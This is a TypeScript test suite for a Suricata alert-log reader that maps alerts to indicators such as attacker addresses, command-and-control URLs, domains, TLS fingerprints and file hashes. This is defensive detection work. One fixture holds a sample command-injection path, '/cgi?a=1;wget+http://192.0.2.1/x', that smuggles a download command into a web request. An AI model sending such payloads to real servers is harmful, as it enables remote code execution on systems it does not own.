import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { actOf, detailsOf } from '../acts.test-support.ts';
import type { ReaderOptions, RecordResult } from '../reader.ts';
import { suricata } from './suricata.ts';

const OUTSIDE = '198.51.100.7';
const INSIDE = '10.20.0.5';

interface Alert {
  readonly category?: string;
  readonly signature?: string;
  readonly severity?: number;
  readonly metadata?: Readonly<Record<string, readonly string[]>>;
}

/** An alert about a packet from outside to port 80 inside. Each member may be changed. */
function inbound(alert: Alert, changes: Readonly<Record<string, unknown>> = {}): string {
  return JSON.stringify({
    timestamp: '2026-03-02T05:11:09.401882+0000',
    flow_id: 2173489501847261,
    event_type: 'alert',
    src_ip: OUTSIDE,
    src_port: 50001,
    dest_ip: INSIDE,
    dest_port: 80,
    proto: 'TCP',
    alert: {
      signature_id: 1,
      signature: 'EXAMPLE rule',
      category: 'Web Application Attack',
      severity: 1,
      ...alert,
    },
    ...changes,
  });
}

function outbound(alert: Alert, changes: Readonly<Record<string, unknown>> = {}): string {
  return inbound(alert, { src_ip: INSIDE, dest_ip: OUTSIDE, ...changes });
}

function read(lines: readonly string[], options: ReaderOptions = {}): RecordResult[] {
  const reader = suricata.createReader(options);
  return lines
    .map((text, index) => reader.read({ text, number: index + 1 }))
    .filter((result) => result !== undefined);
}

type Outcome = string | Readonly<Record<string, Readonly<Record<string, string>>>>;

/** `TYPE value` of each event with its evidence, `-` for nothing to report, or the reason of the refusal. */
function outcome(line: string, options: ReaderOptions = {}): Outcome {
  const [result] = read([line], options);
  if (result?.kind === 'refused') return result.reason;
  if (result?.kind !== 'events') return '-';
  return Object.fromEntries(
    result.events.map((event) => [`${event.indicatorType} ${event.value}`, actOf(event)]),
  );
}

const PEER = `IPV4 ${OUTSIDE}`;
const TROJAN = 'A Network Trojan was detected';
const C2 = 'Malware Command and Control Activity Detected';
const C2_EVIDENCE = { 'alert.kind': 'command-and-control' };

test('an alert about a packet from outside is about its source', () => {
  const [result] = read([inbound({ severity: 2 }, { app_proto: 'http' })]);
  assert.ok(result?.kind === 'events');
  const [event] = result.events;
  assert.equal(event?.value, OUTSIDE);
  assert.equal(event.observedAt, Date.UTC(2026, 2, 2, 5, 11, 9, 401));
  assert.equal(event.severity, 'MEDIUM');
  assert.equal(event.protocol, 'HTTP');
  assert.equal(event.sensorType, 'NETWORK');
  assert.equal(event.sensorId, 'suricata');
  assert.deepEqual(actOf(event), { 'alert.kind': 'exploit' });
});

test('kinds by classification, refined by the group of the rule', () => {
  const cases: [category: string, signature: string, kind: string | undefined][] = [
    ['Attempted Information Leak', 'ET SCAN SSH', 'scan'],
    ['Detection of a Network Scan', 'x', 'scan'],
    ['Web Application Attack', 'x', 'exploit'],
    ['Attempted Administrator Privilege Gain', 'x', 'exploit'],
    ['Attempted Denial of Service', 'x', 'denial-of-service'],
    ['Misc Attack', 'ET CINS Active Threat Intelligence Poor Reputation IP', 'listed'],
    ['Misc Attack', 'ET DROP Dshield Block Listed Source', 'listed'],
    ['Misc Attack', 'ET TOR Known Tor Exit Node Traffic', 'tor-exit'],
    ['Misc Attack', 'ET TOR Known Tor Relay/Router (Not Exit) Node Traffic', 'proxy'],
    ['Misc Attack', 'x', 'exploit'],
    ['Potentially Bad Traffic', 'ET SCAN Suspicious inbound to port', 'scan'],
    ['Potentially Bad Traffic', 'ET WEB_SERVER WebShell', 'exploit'],
    ['Potentially Bad Traffic', 'ET WEB_CLIENT encoding', undefined],
    ['Attempted Information Leak', 'ET POLICY curl User-Agent', undefined],
    ['Not Suspicious Traffic', 'x', undefined],
    ['Generic Protocol Command Decode', 'SURICATA STREAM', undefined],
    ['Potential Corporate Privacy Violation', 'x', undefined],
    ['', 'x', undefined],
  ];
  for (const [category, signature, kind] of cases) {
    const expected = kind === undefined ? '-' : { [PEER]: { 'alert.kind': kind } };
    assert.deepEqual(outcome(inbound({ category, signature })), expected, `${category}: ${signature}`);
  }
});

test('severity is that of the rule', () => {
  const severities = [1, 2, 3, 4, 9].map((severity) => {
    const [result] = read([inbound({ severity })]);
    return result?.kind === 'events' ? result.events[0]?.severity : undefined;
  });
  assert.deepEqual(severities, ['HIGH', 'MEDIUM', 'LOW', 'INFO', 'UNSPECIFIED']);
});

test('an alert about software that calls out is about whom it calls', () => {
  assert.deepEqual(outcome(outbound({ category: TROJAN })), { [PEER]: C2_EVIDENCE });
  assert.deepEqual(outcome(outbound({ category: TROJAN }, { src_port: 3522, dest_port: 8080 })), {
    [PEER]: C2_EVIDENCE,
  });
  const answer = inbound({ category: TROJAN }, { src_port: 443, dest_port: 50001 });
  assert.deepEqual(outcome(answer), { [PEER]: C2_EVIDENCE });
});

test('a trojan rule that matches a client from outside has seen an attack', () => {
  assert.deepEqual(outcome(inbound({ category: TROJAN })), { [PEER]: { 'alert.kind': 'exploit' } });
  const told = inbound({ category: TROJAN }, { src_port: 80, dest_port: 50001, direction: 'to_server' });
  assert.deepEqual(outcome(told), { [PEER]: { 'alert.kind': 'exploit' } });
  const flow = inbound({ category: TROJAN }, { src_port: 80, dest_port: 50001, flow: { src_ip: OUTSIDE } });
  assert.deepEqual(outcome(flow), { [PEER]: { 'alert.kind': 'exploit' } });
});

test("what an inside host does is nobody's indicator", () => {
  assert.equal(outcome(outbound({ category: 'Attempted Information Leak' })), '-');
  assert.equal(outcome(outbound({ category: 'Web Application Attack' })), '-');
});

test('the home net decides; without it a call between strangers says nothing', () => {
  const strangers = inbound({ category: C2 }, { src_ip: '203.0.113.9' });
  const line = strangers.replace(INSIDE, OUTSIDE);
  assert.equal(outcome(line), 'UNKNOWN_DIRECTION');
  assert.deepEqual(outcome(line, { homeNet: ['203.0.113.0/24'] }), { [PEER]: C2_EVIDENCE });
  const scan = inbound({ category: 'Detection of a Network Scan' }, { dest_ip: '203.0.113.9' });
  assert.deepEqual(outcome(scan), { [PEER]: { 'alert.kind': 'scan' } });
});

test("addresses of a home net that was named are the sensor's own", () => {
  const internal = inbound({}, { src_ip: '203.0.113.9', dest_ip: '203.0.113.10' });
  assert.equal(outcome(internal, { homeNet: ['203.0.113.0/24'] }), 'SENSOR_ADDRESS');
});

test('a malicious server is known by its URL, name, certificate and the client that calls it', () => {
  const web = outbound(
    { category: C2 },
    { dest_port: 8080, http: { hostname: 'a.example.net', url: '/gate?id=1' } },
  );
  assert.deepEqual(outcome(web), {
    [PEER]: C2_EVIDENCE,
    'URL http://a.example.net:8080/gate?id=1': C2_EVIDENCE,
  });
  const bare = outbound({ category: C2 }, { http: { url: '/x' } });
  assert.deepEqual(outcome(bare), { [PEER]: C2_EVIDENCE, [`URL http://${OUTSIDE}/x`]: C2_EVIDENCE });
  const fingerprint = '22:0e:91:8f:fb:d0:f8:82:c9:79:4c:7f:b9:5a:8a:ea:7f:ca:58:b6';
  const tls = { sni: 'b.example.net', fingerprint, ja3: { hash: '0123456789abcdef0123456789abcdef' } };
  assert.deepEqual(outcome(outbound({ category: C2 }, { dest_port: 443, tls })), {
    [PEER]: C2_EVIDENCE,
    'JA3 0123456789abcdef0123456789abcdef': C2_EVIDENCE,
    'DOMAIN b.example.net': C2_EVIDENCE,
    [`SSL_CERT_FINGERPRINT ${fingerprint}`]: C2_EVIDENCE,
  });
});

test("one's own URL, name and certificate are no indicators", () => {
  const evidence = { 'alert.kind': 'exploit' };
  const attacked = inbound(
    {},
    { http: { hostname: 'www.example.com', url: '/index.html', http_method: 'GET' } },
  );
  assert.deepEqual(outcome(attacked), { [PEER]: evidence });
  const tls = {
    sni: 'www.example.com',
    fingerprint: '00:11',
    ja3: { hash: '0123456789abcdef0123456789abcdef' },
  };
  assert.deepEqual(outcome(inbound({}, { dest_port: 443, tls })), {
    [PEER]: evidence,
    'JA3 0123456789abcdef0123456789abcdef': evidence,
  });
  const http = { hostname: 'www.example.com', url: '/index.html' };
  assert.deepEqual(outcome(inbound({ category: TROJAN }, { http, tls: { sni: 'www.example.com' } })), {
    [PEER]: evidence,
  });
  const phished = outbound({ category: 'Possible Social Engineering Attempted' }, { tls: { ja3: tls.ja3 } });
  assert.deepEqual(outcome(phished), { [PEER]: { 'alert.kind': 'phishing' } });
});

test('a name that was looked up is the threat, not the resolver', () => {
  const alert = { category: 'Domain Observed Used for C2 Detected' };
  const asked = { app_proto: 'dns', dest_port: 53 };
  for (const dns of [
    { query: [{ type: 'query', rrname: 'c2.example.net' }] },
    { queries: [{ rrname: 'c2.example.net' }] },
    { type: 'query', rrname: 'c2.example.net' },
  ]) {
    const expected = { 'DOMAIN c2.example.net': C2_EVIDENCE };
    assert.deepEqual(outcome(outbound(alert, { ...asked, dns })), expected);
    assert.deepEqual(outcome(outbound(alert, { ...asked, dest_ip: '10.0.0.1', dns })), expected);
  }
  assert.equal(outcome(outbound(alert, asked)), '-');
  assert.equal(outcome(inbound(alert, { src_port: 53, dest_port: 50001 })), '-', 'its answer');
});

test('files that the alert itself carries', () => {
  const sha256 = 'b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c';
  const md5 = '0123456789abcdef0123456789abcdef';
  const malware = { 'alert.kind': 'malware' };
  const found = {
    [PEER]: C2_EVIDENCE,
    [`FILE_HASH_SHA256 ${sha256}`]: malware,
    [`FILE_HASH_MD5 ${md5}`]: malware,
  };
  const whole = { state: 'CLOSED', gaps: false, sha256, md5 };
  assert.deepEqual(outcome(outbound({ category: C2 }, { files: [whole] })), found);
  assert.deepEqual(outcome(outbound({ category: C2 }, { fileinfo: whole })), found);
  assert.deepEqual(outcome(outbound({ category: C2 }, { files: [{ ...whole, state: 'TRUNCATED' }] })), {
    [PEER]: C2_EVIDENCE,
  });
  assert.deepEqual(outcome(inbound({}, { files: [whole] })), { [PEER]: { 'alert.kind': 'exploit' } });
  assert.equal(outcome(inbound({}, { event_type: 'fileinfo', alert: undefined, fileinfo: whole })), '-');
});

test('vulnerability, technique and payload of an attack', () => {
  const metadata = { cve: ['CVE_2021_44228'], mitre_technique_id: ['T1190', 'T1059'] };
  assert.deepEqual(outcome(inbound({ metadata })), {
    [PEER]: { 'alert.kind': 'exploit', 'attack.technique': 'T1190 T1059', 'exploit.cve': 'CVE-2021-44228' },
  });
  const http = { hostname: 'www.example.com', url: '/cgi?a=1;wget+http://192.0.2.1/x', http_method: 'GET' };
  assert.deepEqual(outcome(inbound({}, { http })), {
    [PEER]: { 'alert.kind': 'exploit', 'http.method': 'GET', 'http.path': http.url },
  });
});

test('requests of control protocols', () => {
  const event = (changes: Readonly<Record<string, unknown>>): Outcome =>
    outcome(inbound({}, { alert: undefined, ...changes }));
  const request = { function_raw: 43, function_code: 'MEI', mei: { raw: 14 } };
  assert.deepEqual(event({ event_type: 'modbus', modbus: { id: 1, request } }), {
    [PEER]: { 'modbus.function_code': '43', 'modbus.mei_type': '14' },
  });
  assert.equal(event({ event_type: 'modbus', modbus: { response: { function_raw: 3 } } }), '-');
  assert.deepEqual(
    event({ event_type: 'dnp3', dnp3: { type: 'request', application: { function_code: 13 } } }),
    {
      [PEER]: { 'dnp3.function_code': '13' },
    },
  );
  assert.equal(
    event({ event_type: 'dnp3', dnp3: { type: 'response', application: { function_code: 129 } } }),
    '-',
  );
  const [result] = read([inbound({}, { event_type: 'modbus', modbus: { request } })]);
  assert.ok(result?.kind === 'events');
  assert.equal(result.events[0]?.sensorType, 'ICS');
  assert.equal(result.events[0]?.protocol, 'MODBUS');
});

test('all other events are the record of traffic', () => {
  for (const event_type of ['flow', 'dns', 'http', 'tls', 'fileinfo', 'anomaly', 'stats']) {
    assert.equal(outcome(inbound({}, { event_type })), '-', event_type);
  }
});

test('times with and without a colon in the offset, and without any', () => {
  const timeOf = (timestamp: string): unknown => {
    const [result] = read([inbound({}, { timestamp })]);
    return result?.kind === 'events' && result.events[0]?.observedAt;
  };
  assert.equal(timeOf('2026-03-02T05:11:09.401882-0600'), Date.UTC(2026, 2, 2, 11, 11, 9, 401));
  assert.equal(timeOf('2026-03-02T05:11:09.401882+05:30'), Date.UTC(2026, 2, 1, 23, 41, 9, 401));
  assert.equal(timeOf('2026-03-02T05:11:09.401882'), Date.UTC(2026, 2, 2, 5, 11, 9, 401));
});

test('a flow id beyond what a number holds does no harm', () => {
  const line = inbound({}).replace('2173489501847261', '21734895018472610333');
  assert.deepEqual(outcome(line), { [PEER]: { 'alert.kind': 'exploit' } });
});

test('a bad record is refused alone, with its number and its reason', () => {
  const results = read([
    '{"timestamp": "2026',
    '{"event_type": "alert"}',
    inbound({}, { timestamp: 'yesterday' }),
    inbound({}, { src_ip: undefined }),
    inbound({}, { src_ip: 'unknown' }),
    '',
    inbound({}),
  ]);
  assert.deepEqual(
    results.map((result) => (result.kind === 'refused' ? result.reason : result.line)),
    ['INVALID_JSON', 'NOT_AN_EVE_RECORD', 'INVALID_TIMESTAMP', 'MISSING_ADDRESS', 'INVALID_ADDRESS', 7],
  );
});

test('whatever an alert holds, an address of the home net is never the value of an event', () => {
  const addresses = fc.constantFrom(
    '203.0.113.1',
    '203.0.113.2',
    '198.51.100.1',
    '198.51.100.2',
    '2001:db8::1',
  );
  const alerts = fc.record({
    category: fc.constantFrom(TROJAN, C2, 'Web Application Attack', 'Misc Attack', 'Potentially Bad Traffic'),
    signature: fc.constantFrom('x', 'ET SCAN x', 'ET ATTACK_RESPONSE x', 'ET TOR x', 'ET CNC x'),
  });
  const more = fc.record(
    {
      http: fc.jsonValue(),
      tls: fc.jsonValue(),
      dns: fc.jsonValue(),
      files: fc.jsonValue(),
      flow: fc.jsonValue(),
    },
    { requiredKeys: [] },
  );
  fc.assert(
    fc.property(alerts, addresses, addresses, more, (alert, src_ip, dest_ip, members) => {
      const [result] = read([inbound(alert, { ...members, src_ip, dest_ip })], {
        homeNet: ['203.0.113.0/24'],
      });
      if (result?.kind !== 'events') return;
      for (const { value } of result.events) assert.ok(!value.startsWith('203.0.113.'), value);
    }),
    { numRuns: 500 },
  );
});

test('details of the rule, of a client outside, and of what belongs together', () => {
  const details = (line: string) =>
    read([line]).flatMap((result) => (result.kind === 'events' ? result.events.map(detailsOf) : []));
  const rule = { 'alert.rule': 'EXAMPLE rule', 'alert.sid': '1' };
  const ja3 = '0123456789abcdef0123456789abcdef';
  const tls = { ja3: { hash: ja3 } };
  const ssh = { client: { software_version: 'libssh-0.9.6', hassh: { hash: ja3 } } };
  assert.deepEqual(details(inbound({}, { tls, ssh })), [
    {
      ...rule,
      'destination.port': '80',
      'tls.ja3': ja3,
      'client.version': 'libssh-0.9.6',
      'client.hassh': ja3,
    },
    { ...rule, 'peer.address': OUTSIDE },
  ]);
});
